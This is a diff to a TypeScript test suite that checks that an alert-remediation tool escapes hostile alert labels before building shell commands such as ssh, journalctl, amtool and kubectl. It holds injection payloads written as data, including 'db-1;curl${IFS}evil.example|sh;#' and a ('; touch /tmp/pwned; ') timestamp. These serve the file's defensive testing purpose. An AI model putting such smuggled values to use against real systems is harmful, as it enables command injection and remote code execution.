@@ -351,6 +351,23 @@ describe("hostile alert text", () => {
     expect(commands(r).join("\n")).toContain("ssh <host>");
   });
 
+  test("ordinary values are still filled: an aggregation's matcher left out when its label is missing, an IPv6 instance, an alertname with spaces in amtool's quotes", async () => {
+    const lag = await builtin(alertOf({ alertname: "KafkaConsumerGroupLag", consumergroup: "billing" }));
+    expect(commands(lag).join("\n")).toContain('{consumergroup="billing"}');
+    expect(commands(lag).join("\n")).not.toContain("<topic>");
+    const v6 = await builtin(alertOf({ alertname: "HostCpuHighIowait", instance: "[2001:db8::5]:9100" }));
+    expect(commands(v6).join("\n")).toContain('instance="[2001:db8::5]:9100"');
+    const spaced = await builtin(
+      alertOf(
+        { alertname: "Payment API latency", instance: "pay-1:8080" },
+        { startsAt: "2026-11-01T00:00:00Z" },
+      ),
+    );
+    expect(spaced.remediation.map((s) => s.command).join("\n")).toContain(
+      'amtool silence add alertname="Payment API latency"',
+    );
+  });
+
   test("the same holds for an alert the catalogue does not know, and for a value quoted inside a shell command", async () => {
     const evil = "db-1;curl$" + "{IFS}evil.example|sh;#"; // ${IFS}: a space to the shell
     const outsideStrings = (c: string) => c.replace(/"(?:\\.|[^"\\])*"/g, '""');
@@ -364,6 +381,15 @@ describe("hostile alert text", () => {
     const jq = commands(target).filter((c) => c.includes("jq '"));
     expect(jq.length).toBeGreaterThan(0);
     for (const c of jq) expect(c).not.toContain("$(touch");
+    // startsAt is what Date.parse reads, "(…)" included: it goes into ssh's quoted --since as ISO.
+    const since = await builtin(
+      alertOf(
+        { alertname: "WidgetStuck", instance: "10.0.0.5:9100" },
+        { startsAt: "Jan 1 2026 ('; touch /tmp/pwned; ')" },
+      ),
+    );
+    for (const c of commands(since)) expect(c).not.toContain("touch");
+    expect(commands(since).join("\n")).toContain('journalctl --since "2026-01-01T');
     // An option is not a value: `kubectl delete job --all`.
     const job = await builtin(alertOf({ alertname: "KubeJobFailed", namespace: "prod", job_name: "--all" }));
     for (const c of commands(job)) expect(c).not.toMatch(/job --all/);
